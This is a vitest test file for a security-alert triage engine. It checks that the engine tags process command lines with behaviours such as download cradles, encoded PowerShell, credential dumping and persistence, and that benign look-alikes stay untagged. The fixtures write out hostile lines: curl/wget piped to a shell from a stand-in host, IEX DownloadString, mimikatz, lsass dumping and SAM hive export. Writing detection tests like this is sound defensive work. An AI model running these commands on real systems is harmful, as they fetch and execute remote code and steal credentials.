import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { Alert, Entity, Enrichment } from '@soc/contracts';
import { type BehaviourKind, STRONG_BEHAVIOURS, findBehaviours } from '../src/behaviour.ts';
import { loadTriageKnowledge, triageAlert } from '../src/engine.ts';
import { loadWeights } from '../src/weights.ts';

const weights = loadWeights();
const knowledge = loadTriageKnowledge();
const noFacts: Enrichment = { facts: [], missing: [] };

interface Sample {
  source: string;
  label: 'attack' | 'benign';
  image?: string;
  parentImage?: string;
  commandLine: string;
  expect: BehaviourKind[];
}

// Real command lines (test/fixtures/triage/README.md): attacks and benign look-alikes, each with the behaviours it shows.
const samples: Sample[] = readFileSync(new URL('../../../test/fixtures/triage/behaviour/command-lines.jsonl', import.meta.url), 'utf8')
  .split('\n')
  .filter((l) => l.trim() !== '')
  .map((l) => JSON.parse(l) as Sample);

const base = (n: string) => n.split(/[\\/]/).pop() ?? n;
/** A process entity as the Wazuh and Sentinel parsers build it: image as value, command line, parent's name. */
function process(commandLine: string, image?: string, parentImage?: string): Entity {
  const value = image ?? commandLine;
  return { id: `process:${value}`, type: 'process', value, origin: 'source', commandLine, ...(image ? { name: base(image) } : {}), ...(parentImage ? { parentName: base(parentImage) } : {}) };
}
function alertOf(entities: Entity[], severity: Alert['severity'] = 'medium'): Alert {
  return {
    schemaVersion: 1,
    alertId: 'alt-behaviour',
    tenantId: 'contoso',
    source: { name: 'wazuh', product: 'Wazuh', vendorAlertId: 'v-1' },
    title: 'Sysmon - Event 1: Process creation',
    description: '',
    severity,
    status: 'new',
    detectedAt: '2026-11-23T09:59:00.000Z',
    attack: [],
    entities,
    labels: [],
  };
}
const kindsOf = (commandLine: string, image?: string, parentImage?: string): BehaviourKind[] =>
  findBehaviours(alertOf([process(commandLine, image, parentImage)])).map((f) => f.kind).sort();

describe('behaviour factors on real command lines', () => {
  it('has attacks and benign look-alikes to test on', () => {
    expect(samples.filter((s) => s.label === 'attack' && s.expect.some((k) => STRONG_BEHAVIOURS.has(k))).length).toBeGreaterThanOrEqual(8);
    expect(samples.filter((s) => s.label === 'benign').length).toBeGreaterThanOrEqual(10);
  });

  for (const s of samples) {
    it(`${s.label}: ${s.commandLine.slice(0, 70)} → ${s.expect.join(', ') || 'nothing'}`, () => {
      expect(kindsOf(s.commandLine, s.image, s.parentImage)).toEqual([...s.expect].sort());
    });
  }

  it('no benign look-alike fires a strong behaviour', () => {
    for (const s of samples.filter((x) => x.label === 'benign')) {
      expect(kindsOf(s.commandLine, s.image, s.parentImage).filter((k) => STRONG_BEHAVIOURS.has(k)), s.source).toEqual([]);
    }
  });

  it('quotes the exact substring of the original command line, not the normalised one', () => {
    const cradle = samples.find((s) => s.commandLine.includes("'ht'+'tp://pasteb'"));
    if (!cradle) throw new Error('fixture line missing');
    const [finding] = findBehaviours(alertOf([process(cradle.commandLine)])).filter((f) => f.kind === 'download-cradle');
    expect(finding?.evidence).toContain('«downloadstring»');
    const [iex] = findBehaviours(alertOf([process(samples.find((s) => s.commandLine.includes('invoke-webrequest -uri'))?.commandLine ?? '')]));
    expect(iex?.evidence).toContain('«invoke-webrequest» … «invoke-expression»');
    const encoded = samples.find((s) => s.commandLine.startsWith('powershell  -exec bypass -e '));
    if (!encoded) throw new Error('fixture line missing');
    const [e] = findBehaviours(alertOf([process(encoded.commandLine, encoded.image)]));
    expect(e?.evidence).toContain(`« -e ${encoded.commandLine.split(' -e ')[1]?.slice(0, 40) ?? ''}`);
    expect(e?.techniques.map(([id]) => id)).toEqual(['T1027', 'T1059.001']);
  });
});

describe('behaviour patterns are robust to the class, not the sample', () => {
  const blob = 'SQBuAHYAbwBrAGUALQBXAG0AaQBNAGUAdABoAG8AZAAgAC0AUABhAHQAaAA=';
  it.each([
    `powershell -e ${blob}`,
    `POWERSHELL.EXE -NoP -W Hidden -EncodedCommand ${blob}`,
    `pwsh /enc ${blob}`,
    `powershell.exe –ec ${blob}`,
    `p^o^w^e^r^s^h^e^l^l -enco ${blob}`,
    `powershell -en "${blob}"`,
    'powershell -c "[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($x))"',
    'powershell -c "I`E`X (g`et-content a.txt)"',
    'cmd /c c^e^r^t^u^t^i^l -decode a b',
  ])('encoded or obfuscated: %s', (line) => {
    expect(kindsOf(line)).toContain('encoded-command');
  });
  it.each([
    'powershell -ExecutionPolicy Bypass -File C:\\scripts\\backup.ps1',
    'powershell -ex bypass -enc',
    'powershell.exe -NoProfile -Command "Get-Service | Where-Object Status -eq Running"',
    'certutil -encode file.bat file_.base64',
  ])('not encoded: %s', (line) => {
    expect(kindsOf(line)).not.toContain('encoded-command');
  });

  it.each([
    "powershell IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.45/s.ps1')",
    'powershell "iwr http://203.0.113.45/a | iex"',
    'curl -fsSL http://203.0.113.45/x.sh | sudo bash',
    'wget -qO- http://203.0.113.45/x | sh',
    'CertUtil.exe /urlcache /split /f "http://203.0.113.45/a.exe" a.exe',
    'c^e^r^t^u^t^i^l -URLCACHE -f http://203.0.113.45/a.exe a.exe',
    'bitsadmin.exe /TRANSFER job /download /priority high http://203.0.113.45/a.exe C:\\a.exe',
    'mshta http://203.0.113.45/a.hta',
    'regsvr32 /s /n /u /i:https://203.0.113.45/a.sct scrobj.dll',
    "powershell iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org.evil.example/install.ps1'))",
  ])('download cradle: %s', (line) => {
    expect(kindsOf(line)).toContain('download-cradle');
  });
  it.each([
    'powershell Invoke-WebRequest -Uri https://download.example.com/agent.msi -OutFile C:\\temp\\agent.msi',
    'curl -O https://download.example.com/tool.tar.gz',
    "Set-ExecutionPolicy Bypass -Scope Process -Force; iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
  ])('a download that is not a cradle: %s', (line) => {
    expect(kindsOf(line)).not.toContain('download-cradle');
  });

  it.each([
    'rundll32.exe url.dll,OpenURL http://203.0.113.45/a',
    'msiexec /q /i https://203.0.113.45/a.msi',
    'regsvr32 \\\\203.0.113.45\\share\\a.dll',
  ])('LOLBin reaches the network: %s', (line) => {
    expect(kindsOf(line)).toContain('lolbin-network');
  });
  it('msiexec from a file share is software deployment, not a LOLBin reaching out', () => {
    expect(kindsOf('msiexec /i \\\\fileserver\\deploy\\agent.msi /qn')).toEqual([]);
  });

  it.each([
    ['WINWORD.EXE', 'powershell.exe', ['office-or-browser-child']],
    ['EXCEL.EXE', 'cmd.exe', ['office-or-browser-child']],
    ['msedge.exe', 'wscript.exe', ['office-or-browser-child']],
    ['WmiPrvSE.exe', 'powershell.exe', ['service-or-wmi-child']],
    ['services.exe', 'cmd.exe', ['service-or-wmi-child']],
    ['explorer.exe', 'powershell.exe', []],
    ['WINWORD.EXE', 'splwow64.exe', []],
  ])('parent %s starting %s', (parent, child, kinds) => {
    expect(kindsOf(child, `C:\\Windows\\System32\\${child}`, `C:\\Program Files\\${parent}`)).toEqual(kinds);
  });

  it.each([
    ['sekurlsa::logonpasswords exit', 'T1003.001'],
    ['mimikatz.exe "privilege::debug" "LSADUMP::SAM" exit', 'T1003.001'],
    ['procdump64.exe -accepteula -ma lsass.exe C:\\temp\\l.dmp', 'T1003.001'],
    ['rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full', 'T1003.001'],
    ['rundll32 comsvcs.dll,#24 624 l.dmp full', 'T1003.001'],
    ['reg save HKLM\\SAM C:\\temp\\sam', 'T1003.002'],
    ['reg.exe save "hklm\\security" s.hiv', 'T1003.002'],
    ['ntdsutil "ac i ntds" "ifm" "create full c:\\temp" q q', 'T1003.003'],
  ])('credential dumping: %s', (line, id) => {
    const [f] = findBehaviours(alertOf([process(line)])).filter((x) => x.kind === 'credential-dumping');
    expect(f?.techniques.map(([t]) => t)).toContain(id);
  });
  it.each([
    'procdump -ma w3wp.exe C:\\dumps',
    'reg save HKCU\\Software\\Vendor C:\\backup\\vendor.hiv',
    'reg save hklm\\system\\currentcontrolset\\services\\vendor C:\\backup\\svc.hiv',
  ])('not credential dumping: %s', (line) => {
    expect(kindsOf(line)).not.toContain('credential-dumping');
  });

  it.each([
    ['sc.exe create evil binPath= C:\\Users\\Public\\a.exe', 'T1543.003'],
    ['sc \\\\dc01 create evil binpath= c:\\a.exe', 'T1543.003'],
    ['powershell New-Service -Name evil -BinaryPathName C:\\a.exe', 'T1543.003'],
    ['reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d C:\\a.exe', 'T1547.001'],
    ['schtasks /create /tn Update /tr C:\\a.exe /sc onlogon', 'T1053.005'],
    ['SCHTASKS -Create -TN x -TR c:\\a.exe', 'T1053.005'],
  ])('persistence: %s', (line, id) => {
    const [f] = findBehaviours(alertOf([process(line)])).filter((x) => x.kind === 'persistence');
    expect(f?.techniques.map(([t]) => t)).toContain(id);
  });
  it('a run key written in a registry event is persistence', () => {
    const key = 'HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater';
    const found = findBehaviours(alertOf([{ id: `registry:${key}`, type: 'registry', value: key, key, origin: 'source' }]));
    expect(found.map((f) => f.kind)).toEqual(['persistence']);
  });
  it('reading a run key or querying tasks is not persistence', () => {
    expect(kindsOf('reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run')).toEqual([]);
    expect(kindsOf('schtasks /query /fo LIST')).toEqual([]);
  });

  it('several discovery commands in one alert are a burst; one or two are not', () => {
    expect(kindsOf('cmd /c "whoami /all & net user /domain & nltest /dclist:corp & ipconfig /all"')).toEqual(['discovery-burst']);
    const spread = findBehaviours(alertOf([process('whoami'), process('net1 group "Domain Admins" /domain'), process('systeminfo')]));
    expect(spread.map((f) => f.kind)).toEqual(['discovery-burst']);
    expect(spread[0]?.techniques.map(([t]) => t).sort()).toEqual(['T1033', 'T1082', 'T1087']);
    expect(kindsOf('ipconfig /all')).toEqual([]);
    expect(kindsOf('cmd /c whoami & hostname')).toEqual([]);
  });

  it.each([
    'C:\\Users\\bob\\AppData\\Local\\Temp\\x.exe',
    'C:\\Users\\Public\\a.exe',
    'C:\\ProgramData\\svc\\a.exe',
    '/dev/shm/.x',
    '/tmp/kworker',
  ])('runs from a user-writable folder: %s', (image) => {
    expect(kindsOf(image, image)).toEqual(['user-writable-path']);
  });
  it('a script host running a script, or starting a program, kept in a user-writable folder is staging (Atomic Red Team T1202 as Wazuh rule 92003 saw it)', () => {
    // wscript runs C:\Users\Public\Java-Update.vbs, which starts C:\Users\Public\Java-Update.exe (test/fixtures/alerts/wazuh/sysmon-1-public-folder.json).
    expect(kindsOf('"C:\\Users\\Public\\Java-Update.exe"', 'C:\\Users\\Public\\Java-Update.exe', 'C:\\Windows\\System32\\wscript.exe')).toEqual(['script-host-staging', 'user-writable-path']);
    expect(kindsOf('"C:\\Windows\\System32\\WScript.exe" "C:\\Users\\Public\\Java-Update.vbs"', 'C:\\Windows\\System32\\wscript.exe', 'C:\\Windows\\explorer.exe')).toEqual(['script-host-staging']);
    expect(kindsOf('mshta.exe C:\\Users\\bob\\AppData\\Local\\Temp\\update.hta', 'C:\\Windows\\System32\\mshta.exe', 'C:\\Windows\\explorer.exe')).toEqual(['script-host-staging']);
    expect(STRONG_BEHAVIOURS.has('script-host-staging')).toBe(true);
  });

  it('a script host running an installed script, or a program started from Program Files, is not staging', () => {
    expect(kindsOf('cscript.exe //nologo "C:\\Program Files\\Microsoft Monitoring Agent\\Agent\\Health Service State\\Monitoring Host Temporary Files 1\\x.vbs"', 'C:\\Windows\\System32\\cscript.exe', 'C:\\Program Files\\Microsoft Monitoring Agent\\Agent\\MonitoringHost.exe')).toEqual([]);
    expect(kindsOf('cscript.exe C:\\Windows\\System32\\slmgr.vbs /dli', 'C:\\Windows\\System32\\cscript.exe', 'C:\\Windows\\System32\\cmd.exe')).toEqual([]);
    expect(kindsOf('"C:\\Program Files\\Vendor\\agent.exe"', 'C:\\Program Files\\Vendor\\agent.exe', 'C:\\Windows\\System32\\wscript.exe')).toEqual([]);
    // A program in Temp started by an installer, not a script host, stays the weak user-writable-path.
    expect(kindsOf('"C:\\Windows\\Temp\\setup.exe" /quiet', 'C:\\Windows\\Temp\\setup.exe', 'C:\\Windows\\System32\\msiexec.exe')).toEqual(['user-writable-path']);
  });

  it('a program under Program Files is not user-writable', () => {
    expect(kindsOf('"C:\\Program Files\\App\\app.exe"', 'C:\\Program Files\\App\\app.exe')).toEqual([]);
  });

  it('is fast: a long hostile command line is scanned in linear time', () => {
    const hostile = `powershell ${'^a'.repeat(20_000)} ${"'x'+".repeat(5000)} ${'-e '.repeat(5000)}`;
    const started = performance.now();
    findBehaviours(alertOf([process(hostile)]));
    expect(performance.now() - started).toBeLessThan(200);
  });
});

describe('behaviour factors in the triage', () => {
  const cradle = samples.find((s) => s.commandLine.includes('iex (new-object'));
  if (!cradle) throw new Error('fixture line missing');

  it('adds each behaviour as a named factor citing its evidence and ATT&CK ids; the factors sum to the score', () => {
    const plain = triageAlert(alertOf([process('"C:\\Program Files\\Sublime Text\\sublime_text.exe"', 'C:\\Program Files\\Sublime Text\\sublime_text.exe')]), noFacts, weights, knowledge);
    const t = triageAlert(alertOf([process(cradle.commandLine)]), noFacts, weights, knowledge);
    const names = t.risk.factors.map((f) => f.name);
    expect(names).toContain('behaviour-download-cradle');
    expect(names).toContain('behaviour-encoded-command');
    const cradleFactor = t.risk.factors.find((f) => f.name === 'behaviour-download-cradle');
    expect(cradleFactor?.points).toBe(weights.behaviour.downloadCradle);
    expect(cradleFactor?.evidence).toMatch(/T1105/);
    expect(t.risk.score).toBe(Math.min(100, t.risk.factors.reduce((n, f) => n + f.points, 0)));
    expect(t.risk.score).toBeGreaterThan(plain.risk.score);
    expect(t.verdict.class).toBe('true-positive');
    expect(plain.verdict.class).not.toBe('true-positive');
  });

  it('joins the behaviours techniques to the ATT&CK mapping', () => {
    const t = triageAlert(alertOf([process(cradle.commandLine)]), noFacts, weights, knowledge);
    const ids = t.attack.map((a) => a.techniqueId);
    expect(ids).toEqual(expect.arrayContaining(['T1027', 'T1105', 'T1059.001']));
    expect(t.attack.find((a) => a.techniqueId === 'T1105')?.tactic).toBe('Command and Control');
  });

  it('caps the behaviour factors together at behaviour.max, keeping every factor’s evidence', () => {
    const many = alertOf([
      process('rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full', 'C:\\Users\\Public\\rundll32.exe', 'C:\\Program Files\\WINWORD.EXE'),
      process(cradle.commandLine, 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'C:\\Program Files\\Microsoft Office\\EXCEL.EXE'),
    ]);
    const factors = triageAlert(many, noFacts, weights, knowledge).risk.factors.filter((f) => f.name.startsWith('behaviour-'));
    expect(factors.length).toBeGreaterThanOrEqual(4);
    expect(factors.reduce((n, f) => n + f.points, 0)).toBe(weights.behaviour.max);
    expect(factors.some((f) => f.points === 0 && f.evidence.includes('capped'))).toBe(true);
  });
});
